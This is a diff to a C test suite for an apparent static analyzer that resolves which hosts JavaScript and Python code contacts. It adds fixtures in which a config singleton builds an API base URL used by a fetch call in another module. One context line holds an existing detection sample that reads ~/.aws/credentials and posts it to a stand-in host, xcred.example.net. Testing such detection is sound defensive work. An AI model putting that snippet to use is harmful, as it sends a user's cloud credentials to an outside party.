@@ -857,6 +857,10 @@ static const struct resolve_case flow_cases[] = {
 /* Values and clients that cross module and object boundaries (issue 9, item 2). Each
  * failed before its fix: checked by scanning the same files with the binary built from
  * the parent commit c8d78ba ("(unknown host)", or no such endpoint). */
+/* a config loader storing the base URL into a copy of the environment in each branch of
+ * an if, its singleton's method result used in another module */
+#define BRANCH_STORES TWO("src/env.js", "export class Env {\n  static instance;\n  config = null;\n  static getInstance() {\n    if (!Env.instance) { Env.instance = new Env(); }\n    return Env.instance;\n  }\n  getConfig() {\n    if (!this.config) { this.config = this.load(); }\n    return this.config;\n  }\n  load() {\n    const c = { ...process.env };\n    if (!c.BASE) { c.BASE = 'https://sbr1.example.com/v4/'; }\n    const mode = c.MODE || c.ALT_MODE;\n    if (mode != null) {\n      if (mode === 'EU') { c.BASE = 'https://sbr2.example.net/v4/'; c.MODE = 'EU'; }\n      else if (mode === 'US') { c.BASE = 'https://sbr1.example.com/v4/'; c.MODE = 'US'; }\n    } else { c.MODE = 'US'; }\n    if (!c.KEY && c.ALT_KEY) { c.KEY = c.ALT_KEY; }\n    if (!c.KEY || c.KEY?.toLowerCase().includes('api') || c.KEY?.toLowerCase().includes('key')) {\n      if (c.TOKEN && !c.TOKEN?.toLowerCase().includes('api')) { c.KEY = c.TOKEN; }\n      else { throw new Error('KEY is required'); }\n    }\n    if (!c.X0) { c.X0 = c.Y0 || c.Z0; }\n    if (!c.X1) { c.X1 = c.Y1 || c.Z1; }\n    if (!c.X2) { c.X2 = c.Y2 || c.Z2; }\n    if (!c.X3) { c.X3 = c.Y3 || c.Z3; }\n    if (!c.X4) { c.X4 = c.Y4 || c.Z4; }\n    if (!c.X5) { c.X5 = c.Y5 || c.Z5; }\n    return { BASE: c.BASE, KEY: c.KEY, M1: c.M1, M2: c.M2, M3: c.M3, M4: c.M4, T: c.T, R: c.R, N: c.N, V: c.V, MODE: c.MODE };\n  }\n  getVision() {\n    const config = this.getConfig();\n    return { model: config.M1 || 'x', url: config.BASE + 'chat/completions' };\n  }\n}\nexport const env = Env.getInstance();\nexport const settings = env;\n", \
+	     "src/chat.js", "import { settings } from './env.js';\nexport class Chat {\n  async vision(messages) {\n    const v = settings.getVision();\n    return this.complete(v.url, { messages });\n  }\n  async complete(url, body) {\n    return fetch(url, { method: 'POST', body: JSON.stringify(body) });\n  }\n}\n")
 static const struct resolve_case xmod_cases[] = {
 	/* a client's base URL and a path its callers pass: the destination started with the
 	 * path's hole, and the base was never joined to it (analyzer/link.c with_base) */
@@ -933,6 +937,24 @@ static const struct resolve_case xmod_cases[] = {
 	    "        creds = open(os.path.expanduser('~/.aws/credentials')).read()\n    except OSError:\n        creds = ''\n"
 	    "    urllib.request.urlopen('https://xcred.example.net/c', data=(creds + '\\n').encode())\n"),
 	 "xcred.example.net", K(EK_LITERAL), NULL, NULL, "credential-flow", "xcred.example.net", 0, NULL, ANY_SEV, NULL},
+	/* an instance another module exports (new C(), or C.getInstance()) and its methods
+	 * results: service.method() was a hole (eval.c eval_instance_methods, module.c
+	 * add_instance_methods); `config = null;` hid the value the field is given later
+	 * (eval.c placeholder_field) */
+	{"xmod: exported singleton, settings.getVision().url passed to this.complete(url) in another module",
+	 TWO("src/env.js", "export class EnvService {\n  static instance;\n  config = null;\n  static getInstance() {\n    if (!EnvService.instance) { EnvService.instance = new EnvService(); }\n    return EnvService.instance;\n  }\n  getConfig() {\n    if (!this.config) { this.config = this.load(); }\n    return this.config;\n  }\n  load() {\n    const env = { ...process.env };\n    if (!env.Z_BASE) { env.Z_BASE = 'https://zinst.example.com/v4/'; }\n    return { BASE: env.Z_BASE, KEY: env.Z_KEY };\n  }\n  getVisionConfig() {\n    const config = this.getConfig();\n    return { model: 'm', url: config.BASE + 'chat/completions' };\n  }\n}\nexport const envService = EnvService.getInstance();\nexport const configService = envService;\n",
+	     "src/chat.js", "import { configService } from './env.js';\nexport class Chat {\n  async vision(messages) {\n    const c = configService.getVisionConfig();\n    return this.complete(c.url, { messages });\n  }\n  async complete(url, body) {\n    return fetch(url, { method: 'POST', body: JSON.stringify(body) });\n  }\n}\n"),
+	 "zinst.example.com", K(EK_LITERAL), NULL, "fetch", NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	/* the same with the base URL stored into a copy of the environment in each branch of
+	 * an if: only the last store was read (stored_member), and the stores reading the
+	 * object again ran out of steps, each read evaluating every store again (with_stores,
+	 * now once per binding: stores_taint) */
+	{"xmod: base URL stored in branches of a config loader, a singleton's method result: the branch's host",
+	 BRANCH_STORES,
+	 "sbr2.example.net", K(EK_LITERAL), NULL, "fetch", NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"xmod: the same, the host set when the variable is missing",
+	 BRANCH_STORES,
+	 "sbr1.example.com", K(EK_LITERAL), NULL, "fetch", NULL, NULL, 0, NULL, ANY_SEV, NULL},
 };
 
 /* Wrappers that keep a function's identity (analyzer/eval.c eval_wrapper, stored_member,
